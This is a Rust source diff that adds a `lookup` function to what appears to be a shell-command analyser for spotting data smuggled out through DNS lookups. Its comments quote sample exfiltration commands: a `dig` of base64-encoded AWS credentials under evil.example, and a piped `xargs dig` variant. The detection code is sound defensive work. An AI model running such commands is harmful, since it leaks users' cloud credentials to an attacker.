@@ -102,6 +102,49 @@ pub(super) fn sent(analysis: &ShellAnalysis, i: usize, scope: &Scope, writes: &W
     }
 }
 
+/// What command `i` (a resolver) sends by looking up `name`, a name built from data ending
+/// in `domain`: the name, a secret-looking variable in it, and the output of the commands
+/// substituted into it (`dig $(cat ~/.aws/credentials | base64).evil.example`).
+pub(super) fn lookup(
+    analysis: &ShellAnalysis,
+    i: usize,
+    scope: &Scope,
+    writes: &Writes,
+    name: &Word,
+    domain: String,
+) -> Sent {
+    let Some(c) = analysis.commands.get(i) else {
+        return Sent::default();
+    };
+    let line = Line {
+        analysis,
+        i,
+        c,
+        scope,
+        writes,
+    };
+    let mut items = vec![Payload::Name {
+        name: name.text.clone(),
+        domain,
+    }];
+    text(&name.text, Part::Url, &mut items);
+    let substituted = substituted(analysis, i);
+    if !substituted.is_empty() {
+        items.push(Payload::Output(line.source(substituted)));
+    }
+    // `… | xargs -I{} dig {}.evil.example`: the name is made of what is piped in.
+    if c.args_from_stdin
+        && let Some(j) = c.stdin_from
+    {
+        items.push(Payload::Output(line.source(vec![j])));
+    }
+    Sent {
+        command: Some(i),
+        program: c.program.clone(),
+        items,
+    }
+}
+
 /// `nc localhost 9000`, `socat - TCP:127.0.0.1:80`: a socket to this machine.
 fn to_loopback(c: &Command) -> bool {
     if !matches!(
